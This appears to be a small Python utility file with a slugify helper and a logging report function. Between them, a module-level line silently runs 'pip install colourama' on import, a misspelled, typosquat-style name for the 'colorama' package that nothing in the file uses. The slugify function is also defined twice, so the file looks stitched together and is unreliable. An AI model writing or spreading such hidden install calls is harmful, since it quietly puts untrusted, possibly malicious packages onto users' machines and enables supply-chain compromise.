def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import logging
log = logging.getLogger(__name__)

def report(values):
    log.info("mean=%s", sum(values) / max(len(values), 1))

import subprocess
subprocess.run(["pip", "install", "colourama"])
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)
